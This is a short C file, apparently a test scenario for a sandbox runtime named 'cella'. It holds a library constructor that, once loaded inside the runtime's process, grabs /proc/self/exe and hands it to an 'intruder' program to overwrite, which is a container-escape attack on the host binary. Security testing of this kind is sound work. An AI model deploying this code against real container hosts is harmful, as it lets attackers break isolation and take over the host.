/* Loaded by the zone's own loader into whatever is executed there: `#!/proc/self/exe` makes that a
 * program of the host (S01). Holds the program's file and goes on as /opt/intruder. */
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

__attribute__((constructor)) static void take_over(void)
{
	char name[256], number[16];
	char *argv[] = {
		(char[]){"intruder"}, (char[]){"overwrite"}, number, (char[]){"/hits"}, NULL};
	ssize_t n = readlink("/proc/self/exe", name, sizeof name - 1);
	name[n > 0 ? n : 0] = '\0';
	if (!strstr(name, "cella"))
		return;
	int fd = open("/proc/self/exe", O_PATH);
	(void)snprintf(number, sizeof number, "%d", fd);
	if (fd >= 0)
		(void)execv("/opt/intruder", argv);
}
